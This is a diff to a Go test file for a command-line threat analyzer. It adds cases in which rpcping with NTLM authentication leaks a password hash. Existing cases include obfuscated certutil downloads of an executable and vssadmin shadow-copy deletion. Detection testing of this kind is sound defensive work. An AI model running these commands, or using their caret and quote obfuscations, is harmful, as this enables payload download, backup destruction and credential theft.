@@ -36,6 +36,11 @@ func TestAnalyzeSpelledNames(t *testing.T) {
 		{`cmd /c c""ertutil.exe -urlcache -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
 		{`v^ss^admin delete shadows /all /quiet`, IDDeleteBackups},
 		{`c^ertutil -hashfile a.exe`, ""},
+		// rpcping authenticating with NTLM hands the server a hash
+		{`rpcping -s 127.0.0.1 -e 1234 -a privacy -u NTLM 1>$Null`, IDNTLMLeak},
+		{`rpcping /s 10.0.0.35 /e 9997 /a connect /u NTLM`, IDNTLMLeak},
+		{`r^pcping.exe /s srv /u 10`, IDNTLMLeak},
+		{`rpcping -s srv -t ncacn_ip_tcp`, ""},
 		// what echo would not print as written stays unknown, not safe
 		{"echo $(echo hello)", ""},
 		{"ls $(echo -e 'a\\tb')", ""},
